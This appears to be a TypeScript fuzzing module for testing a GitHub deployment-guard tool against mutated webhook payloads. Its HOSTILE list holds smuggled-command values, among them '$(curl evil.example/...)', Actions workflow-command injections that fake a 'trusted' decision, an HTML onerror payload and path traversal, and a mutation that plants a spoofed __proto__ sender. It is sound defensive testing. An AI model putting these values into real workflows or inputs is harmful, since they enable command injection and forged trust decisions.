/** Values that hostile events carry, and how an example of an event is changed. */

import { createRequire } from 'node:module';
import { generator } from '@guarded-deploy/github-simulator/faults';

export interface Dice {
  readonly random: () => number;
  readonly pick: <T>(items: readonly T[]) => T;
}

export function dice(seed: number): Dice {
  const random = generator(seed);
  return { random, pick: items => items[Math.floor(random() * items.length)]! };
}

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

interface Example {
  readonly name: string;
  readonly examples: readonly Json[];
}

export const examples = createRequire(import.meta.url)('@octokit/webhooks-examples') as readonly Example[];

/** The events with rules of their own come up more often than the dozens without. */
export const RULED = [
  'push',
  'pull_request',
  'pull_request',
  'pull_request_target',
  'pull_request_review',
  'pull_request_review_comment',
  'issue_comment',
  'workflow_run',
  'workflow_dispatch',
  'repository_dispatch',
  'merge_group',
  'release',
  'schedule',
];

/** Whatever shows this shows text of the event. */
export const MARK = 'zzhostilezz';

export const HOSTILE = [
  `${MARK}\n::error::owned`,
  `${MARK}\r\n::set-output name=decision::trusted`,
  `##[error]${MARK}`,
  `</code></details><img src=x onerror=${MARK}>`,
  `| ${MARK} | [click](https://evil.example) | @everyone`,
  `\`\`\`\n${MARK}\n\`\`\``,
  `$(curl evil.example/${MARK})`,
  `\${{ secrets.${MARK} }}`,
  `\u202e${MARK}\u0000`,
  `../../${MARK}`,
  'refs/heads/master',
  'Codertocat',
  'dependabot[bot]',
  'trusted',
  '0'.repeat(40),
  'a'.repeat(40),
  'A'.repeat(40),
  'x'.repeat(5000),
];

type Path = readonly (string | number)[];

function pathsOf(value: Json, prefix: Path = [], into: Path[] = []): Path[] {
  if (typeof value !== 'object' || value === null) return into;
  for (const key of Array.isArray(value) ? value.keys() : Object.keys(value)) {
    const path = [...prefix, key];
    into.push(path);
    pathsOf((value as Record<string | number, Json>)[key]!, path, into);
  }
  return into;
}

const DECISIVE =
  /sender|actor|user|owner|login|^id$|type|sha|after|ref|repo|head|base|deleted|action|commit|number|pull_request|workflow_run|merge_group|comment/;

/** What a decision shows or asks for. */
const NAMES = [
  'ref',
  'sender',
  'sender.login',
  'sender.id',
  'pull_request.user.login',
  'pull_request.head.ref',
  'pull_request.head.sha',
  'pull_request.head.repo.id',
  'pull_request.head.repo.full_name',
  'pull_request.head.repo.owner.login',
  'workflow_run.head_branch',
  'workflow_run.head_sha',
  'merge_group.head_ref',
  'comment.body',
];

function parentOf(root: Json, path: Path): Record<string | number, Json> {
  let current = root as Record<string | number, Json>;
  for (const key of path.slice(0, -1)) current = current[key] as Record<string | number, Json>;
  return current;
}

const get = (root: Json, path: Path) => parentOf(root, path)[path.at(-1)!]!;

export const MUTATIONS = ['delete', 'null', 'retype', 'swap', 'hostile', 'graft', 'prototype'] as const;

export type Mutation = (typeof MUTATIONS)[number];

export function mutate(root: Json, kind: Mutation, { random, pick }: Dice): void {
  const all = pathsOf(root);
  const decisive = all.filter(path => DECISIVE.test(String(path.at(-1))));
  const named = all.filter(path => NAMES.includes(path.join('.')));
  const choose = () => {
    const dice = random();
    return pick(dice < 0.1 && named.length > 0 ? named : dice < 0.8 && decisive.length > 0 ? decisive : all);
  };
  if (all.length === 0) return;
  const path = choose();
  const parent = parentOf(root, path);
  const key = path.at(-1)!;
  switch (kind) {
    case 'delete':
      if (Array.isArray(parent)) parent.splice(Number(key), 1);
      else delete parent[key];
      return;
    case 'null':
      parent[key] = null;
      return;
    case 'retype': {
      const value = parent[key]!;
      parent[key] = pick<Json>([
        String(value),
        Number.MAX_SAFE_INTEGER,
        -1,
        1.5,
        0,
        true,
        false,
        [],
        [value],
        {},
        { login: value },
        typeof value === 'string' ? Number(value) || 7 : 'text',
      ]);
      return;
    }
    case 'swap': {
      const other = choose();
      // A value must not end up inside itself.
      const [long, short] = path.length > other.length ? [path, other] : [other, path];
      if (short.every((part, index) => part === long[index])) return;
      const [one, two] = [structuredClone(get(root, path)), structuredClone(get(root, other))];
      parentOf(root, path)[key] = two;
      parentOf(root, other)[other.at(-1)!] = one;
      return;
    }
    case 'hostile':
      parent[key] = pick(HOSTILE);
      return;
    case 'graft': {
      const donor = structuredClone(pick(pick(examples).examples));
      const from = pathsOf(donor).filter(candidate => candidate.at(-1) === key);
      if (from.length > 0) parent[key] = get(donor, pick(from));
      return;
    }
    case 'prototype':
      Object.defineProperty(parent, '__proto__', {
        value: { sender: { login: 'Codertocat', id: 21031067 }, deleted: false },
        enumerable: true,
        configurable: true,
        writable: true,
      });
  }
}

export function object(value: unknown, ...path: (string | number)[]): unknown {
  let current = value;
  for (const key of path) {
    if (current === null || current === undefined || !Object.hasOwn(Object(current), key)) return undefined;
    current = (current as Record<string | number, unknown>)[key];
  }
  return current;
}

export const record = (value: unknown) =>
  typeof value === 'object' && value !== null ? (value as Record<string, Json>) : undefined;
